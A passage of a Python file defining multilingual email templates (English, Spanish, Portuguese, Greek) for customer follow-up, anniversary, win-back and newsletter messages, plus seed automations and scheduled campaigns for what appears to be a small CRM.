            "Tem alguma dúvida ou avançamos?\n\n{{ sender.name }}",
        ),
        "el": (
            "Σχετικά με {{ deal.title }}",
            "Γεια σας {{ customer.name }},\n\nΕπικοινωνώ για {{ deal.title }}. "
            "Έχετε κάποια ερώτηση ή προχωράμε;\n\n{{ sender.name }}",
        ),
    },
    "anniversary": {
        "en": (
            "One more year together, {{ customer.name }}",
            "Hello {{ customer.name }},\n\nAnother year since you became our customer"
            "{% if customer.company %} with {{ customer.company }}{% endif %}. Thank you!"
            "\n\n{{ sender.name }}",
        ),
        "es": (
            "Un año más juntos, {{ customer.name }}",
            "Hola {{ customer.name }}:\n\nSe cumple otro año desde que eres cliente"
            "{% if customer.company %} con {{ customer.company }}{% endif %}. ¡Gracias!"
            "\n\n{{ sender.name }}",
        ),
        "pt": (
            "Mais um ano juntos, {{ customer.name }}",
            "Olá {{ customer.name }},\n\nFaz mais um ano que é nosso cliente"
            "{% if customer.company %} com a {{ customer.company }}{% endif %}. Obrigado!"
            "\n\n{{ sender.name }}",
        ),
        "el": (
            "Ακόμη ένας χρόνος μαζί, {{ customer.name }}",
            "Γεια σας {{ customer.name }},\n\nΣυμπληρώνεται ακόμη ένας χρόνος συνεργασίας"
            "{% if customer.company %} με την {{ customer.company }}{% endif %}. Ευχαριστούμε!"
            "\n\n{{ sender.name }}",
        ),
    },
    "dormant": {
        "en": (
            "We miss you, {{ customer.name }}",
            "Hello {{ customer.name }},\n\nIt has been a while. Is there anything we can help "
            "you with?\n\n{{ sender.name }}",
        ),
        "es": (
            "Te echamos de menos, {{ customer.name }}",
            "Hola {{ customer.name }}:\n\nHace tiempo que no hablamos. ¿Podemos ayudarte en "
            "algo?\n\n{{ sender.name }}",
        ),
        "pt": (
            "Temos saudades, {{ customer.name }}",
            "Olá {{ customer.name }},\n\nJá faz algum tempo. Podemos ajudar em alguma coisa?"
            "\n\n{{ sender.name }}",
        ),
        "el": (
            "Μας λείψατε, {{ customer.name }}",
            "Γεια σας {{ customer.name }},\n\nΠέρασε καιρός. Μπορούμε να σας βοηθήσουμε σε κάτι;"
            "\n\n{{ sender.name }}",
        ),
    },
    "newsletter": {
        "en": (
            "News from {{ sender.name }}",
            "Hello {{ customer.name }},\n\nThis season: faster websites, a new online shop "
            "package and a free review of your site.\n\n{{ sender.name }}",
        ),
        "es": (
            "Novedades de {{ sender.name }}",
            "Hola {{ customer.name }}:\n\nEsta temporada: webs más rápidas, un nuevo paquete de "
            "tienda online y una revisión gratuita de tu web.\n\n{{ sender.name }}",
        ),
        "pt": (
            "Novidades da {{ sender.name }}",
            "Olá {{ customer.name }},\n\nEsta estação: sites mais rápidos, um novo pacote de "
            "loja online e uma revisão gratuita do seu site.\n\n{{ sender.name }}",
        ),
        "el": (
            "Νέα από {{ sender.name }}",
            "Γεια σας {{ customer.name }},\n\nΑυτή τη σεζόν: ταχύτερες ιστοσελίδες, νέο πακέτο "
            "ηλεκτρονικού καταστήματος και δωρεάν έλεγχος της σελίδας σας.\n\n{{ sender.name }}",
        ),
    },
}

_AUTOMATIONS: tuple[tuple[str, str, int, object], ...] = (
    ("welcome", "welcome", 1, True),
    ("birthday", "birthday", 0, True),
    ("anniversary", "anniversary", 0, "yes"),
    ("dormant", "dormant", 0, True),
    ("follow-up", "follow_up", 2, True),
)


def _templates() -> list[dict[str, object]]:
    return [
        {"key": key, "language": language, "subject": subject, "body": body}
        for key, languages in _TEMPLATE_TEXT.items()
        for language, (subject, body) in languages.items()
    ]


def _automations() -> list[dict[str, object]]:
    return [
        {"kind": kind, "template": template, "offset_days": offset, "enabled": enabled}
        for kind, template, offset, enabled in _AUTOMATIONS
    ]


def _campaigns(today: date) -> list[dict[str, object]]:
    return [
        {
            "name": "Seasonal newsletter",
            "segment_filter": "Lifecycle = Active",
            "template": "newsletter",
            "send_on": today + timedelta(days=3),
            "approved": True,
        },
        {
            "name": "Win back dormant customers",
            "segment_filter": "Lifecycle = Dormant",
            "template": "dormant",
            "send_on": today + timedelta(days=14),
            "approved": False,
        },
        {
            "name": "Oferta clientes España",
            "segment_filter": "Language = es",
            "template": "newsletter",
            "send_on": (today + timedelta(days=30)).strftime("%d/%m/%Y"),
            "approved": None,
        },
    ]
